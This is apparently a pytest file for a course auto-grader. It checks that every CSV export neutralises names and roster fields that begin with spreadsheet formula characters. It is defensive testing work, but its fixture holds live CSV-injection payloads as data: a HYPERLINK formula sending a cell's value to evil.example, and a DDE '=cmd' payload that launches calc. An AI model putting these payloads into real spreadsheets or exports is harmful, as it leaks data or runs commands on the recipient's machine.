"""Student text reaches a TA's spreadsheet as text: every CSV the grader writes, through ``grade``.

Submission names and roster fields that begin with each formula character OWASP's CSV-injection
guidance names (``=``, ``+``, ``-``, ``@``, tab, carriage return) go through ``grade``, ``report``,
``merge`` and every ``export`` format; read back with Python's csv module, no cell begins with a
formula character unless it is a plain number (the grader's own figures), and every neutralised
cell was written quoted. Submissions named like the grader's own outputs (``canvas.csv``,
``similarity``, ``index.html``, ``grades.csv``) break no command, and the correct neighbour keeps
full marks.
"""
import csv
import io
import json
import re
import subprocess
import sys

import pytest

from grader import csvcells, outputs
from grader.cli import main

from conftest import REPO
from test_intake import lab_files, write_folder

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PAYLOAD = '1+HYPERLINK("evil.example?"&C2,"click")'   # no "/": it is a file name
FORMULA_START = set("=+-@\t\r\n")
PLAIN_NUMBER = re.compile(r"[-+]?[0-9]+(\.[0-9]+)?|[-+]")   # the only cells that may begin with a sign


def read(text):
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def assert_formula_free(text, where):
    """No cell read back begins with a formula character, unless it is a number; a neutralised cell
    (a quote before a formula character) was written inside double quotes."""
    for row in read(text):
        for value in row:
            if value[:1] in FORMULA_START:
                assert PLAIN_NUMBER.fullmatch(value), f"{where}: {value!r} would run as a formula"
            if value[:1] == "'" and value[1:2] in FORMULA_START:
                assert '"' + value.replace('"', '""') + '"' in text, f"{where}: {value!r} is not quoted"


def test_the_cell_function_neutralises_text_and_keeps_numbers():
    for t in TRIGGERS:
        assert csvcells.cell(t + PAYLOAD) == '"\'' + (t + PAYLOAD).replace('"', '""') + '"'
    for number in ("-5", "+1", "-0.25", "80", "1e-3", "-1.5E+2", "-", ""):
        assert csvcells.cell(number) == number
    for text in ("-e5", "-1+1", "=1", "@SUM(A1)", "-inf", "+82 10"):
        assert csvcells.cell(text).startswith("\"'")
    assert csvcells.cell("Kim, Minsu") == '"Kim, Minsu"' and csvcells.cell("a", quote=True) == '"a"'
    rows = [["=x", "-3", 'say "hi"', "a\r\nb"], ["", "정하늘", "\t", "@"]]
    assert read(csvcells.table(rows)) == [["'=x", "-3", 'say "hi"', "a\r\nb"], ["", "정하늘", "'\t", "'@"]]


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    """One class graded through ``grade`` with a roster: hostile names, output-like names, a correct
    neighbour; then every export, similarity, report and merge."""
    tmp = tmp_path_factory.mktemp("injection")
    subs, out = tmp / "subs", tmp / "out"
    subs.mkdir()
    files = lab_files()
    write_folder(subs / "정하늘", files)                          # the correct neighbour
    write_folder(subs / "canvas.csv", files)                      # named like export --format canvas's file
    write_folder(subs / "similarity", files)                      # named like the similarity command's folder
    (subs / "index.html").write_text("<p>mine</p>")                # named like the class summary
    (subs / "grades.csv").write_text("name,total\nme,100\n")       # named like the class table
    hostile = [t + PAYLOAD + ".rar" for t in TRIGGERS]             # unsupported: graded at once, rows all the same
    for name in hostile:
        (subs / name).write_bytes(b"Rar!\x1a\x07\x00")
    roster = tmp / "roster.csv"
    with roster.open("w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["id", "name", "email", "section", "submission", "login", "lms_id"])
        w.writerow(["20260000", "정하늘", "j@example.kr", "1", "정하늘", "haneul", "1000"])
        for i, (t, name) in enumerate(zip(TRIGGERS, hostile), start=1):
            w.writerow([f"2026000{i}", t + PAYLOAD, f"{t}x{i}@example.kr", f"{t}A", name, f"{t}user{i}", f"100{i}"])
    template = tmp / "worksheet.csv"
    template.write_text("Identifier,Full name,Email address,Status,Grade,Maximum Grade,Last modified (grade)\r\n"
                        'Participant 1000,"=cmd|\' /C calc\'!A0",j@example.kr,Submitted,,80,-\r\n'
                        "Participant 1001,@SUM(1+1),x1@example.kr,Submitted,,80,-\r\n", encoding="utf-8")
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("REGLAB_SECRET_SEED", "csv-injection-test")   # one expected-data cache for the module
        proc = subprocess.run([sys.executable, "-m", "grader", "grade", str(subs), "--out", str(out), "--no-training",
                               "--jobs", "2", "--roster", str(roster)], cwd=REPO, capture_output=True, text=True)
        assert proc.returncode == 0, proc.stderr
        written = {}
        for fmt in outputs.EXPORT_FORMATS:
            assert main(["export", str(out), "--format", fmt, "--parts"]) == 0          # DIR/<format>.csv
            written[fmt] = (out / outputs.export_file(fmt)).read_text(encoding="utf-8")
        for label, extra in (("canvas+roster", ["--format", "canvas", "--roster", str(roster)]),
                             ("moodle-ko", ["--format", "moodle", "--moodle-lang", "ko"]),
                             ("moodle-template", ["--format", "moodle", "--template", str(template)]),
                             ("blackboard+roster", ["--format", "blackboard", "--roster", str(roster)]),
                             ("csv+roster", ["--format", "csv", "--roster", str(roster)])):
            path = tmp / f"{label}.csv"
            assert main(["export", str(out), *extra, "--out", str(path)]) == 0
            written[label] = path.read_text(encoding="utf-8")
        assert main(["similarity", str(out)]) == 0
        assert main(["report", str(out)]) == 0
        written["grades.csv"] = (out / outputs.GRADES_CSV).read_text(encoding="utf-8")
        assert main(["merge", str(out), "--out", str(tmp / "merged")]) == 0
        written["merged grades.csv"] = (tmp / "merged" / outputs.GRADES_CSV).read_text(encoding="utf-8")
        yield subs, out, written, hostile, roster


def test_no_csv_output_holds_a_formula(graded):
    _, _, written, hostile, _ = graded
    assert set(written) >= {*outputs.EXPORT_FORMATS, "grades.csv", "merged grades.csv", "moodle-template"}
    for where, text in written.items():
        assert_formula_free(text, where)
    names = {row[0] for row in read(written["grades.csv"])}
    assert {"'" + n.replace("\r", "\n") for n in hostile} <= names   # every hostile name has its row, as text
    plain = {row[1] for row in read(written["csv+roster"])}          # the roster's names, echoed
    assert {"'" + t + PAYLOAD for t in "=+-@"} <= plain


def test_the_importers_columns_and_numbers_are_unchanged(graded):
    _, _, written, _, _ = graded
    canvas = read(written["canvas+roster"])
    assert canvas[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Regularization lab"]
    assert canvas[1][5] == "80" and canvas[2][:3] == ["정하늘", "1000", "20260000"] and canvas[2][5] == "80"
    assert canvas[3][:4] == ["'" + "=" + PAYLOAD, "1001", "20260001", "'=user1"] and canvas[3][5] == "0"
    moodle = read(written["moodle"])
    assert [moodle[0].count(h) for h in ("Identifier", "Grade", "Last modified (grade)")] == [1, 1, 1]
    filled = read(written["moodle-template"])
    assert filled[1][0] == "Participant 1000" and filled[1][4] == "80" and filled[1][1].startswith("'=cmd")
    assert filled[2][4] == "0" and filled[2][1] == "'@SUM(1+1)"
    board = written["blackboard+roster"]
    assert all(line.startswith('"') and line.endswith('"') for line in board.splitlines())
    assert read(board)[1][:2] == ["haneul", "80"] and read(board)[2][:2] == ["'=user1", "0"]
    rows = {r["name"]: r for r in csv.DictReader(io.StringIO(written["grades.csv"].removeprefix("\ufeff")))}
    assert (rows["정하늘"]["total"], rows["정하늘"]["status"], rows["정하늘"]["student"]) == ("80", "ok", "정하늘")


def test_names_like_the_graders_outputs_break_nothing(graded):
    subs, out, written, _, _ = graded
    folders = {json.loads(p.read_text())["extra_data"]["reglab"]["original"]: p.parent.name
               for p in out.glob("*/results.json")}
    assert folders["canvas.csv"] == "canvas.csv-2" and folders["similarity"] == "similarity-2"
    assert folders["index.html"] == "index.html-2" and folders["grades.csv"] == "grades.csv-2"
    rows = {r["name"]: r for r in csv.DictReader(io.StringIO(written["grades.csv"].removeprefix("\ufeff")))}
    for name in ("정하늘", "canvas.csv", "similarity"):
        assert (rows[name]["total"], rows[name]["status"]) == ("80", "ok"), name
    assert (out / "canvas.csv").is_file() and (out / "similarity" / "index.html").is_file()
    assert json.loads((out / "similarity-2" / "results.json").read_text())["score"] == 80
    assert (out / "similarity-2" / "index.html").is_file() and (out / "canvas.csv-2" / "index.html").is_file()
    # One list: everything the commands wrote beside the submissions' folders is reserved, and no
    # submission's folder took a reserved name.
    beside = {p.name for p in out.iterdir() if not p.name.startswith(".") and not (p / "results.json").exists()}
    assert beside and beside <= outputs.RESERVED, beside - outputs.RESERVED
    assert not {f.casefold() for f in folders.values()} & {r.casefold() for r in outputs.RESERVED}


def test_only_and_resume_find_the_same_folders(graded, capsys):
    subs, out, _, _, roster = graded
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("REGLAB_SECRET_SEED", "csv-injection-test")
        assert main(["grade", str(subs), "--out", str(out), "--no-training", "--resume", "--roster", str(roster)]) == 0
        assert "graded 0 submission(s) (11 kept" in capsys.readouterr().out
        assert main(["grade", str(subs), "--out", str(out), "--no-training", "--only", "canvas.csv",
                     "--roster", str(roster)]) == 0
    assert "graded 1 submission(s)" in capsys.readouterr().out
    assert json.loads((out / "canvas.csv-2" / "results.json").read_text())["score"] == 80
    assert (out / "canvas.csv").is_file()          # the export beside it untouched
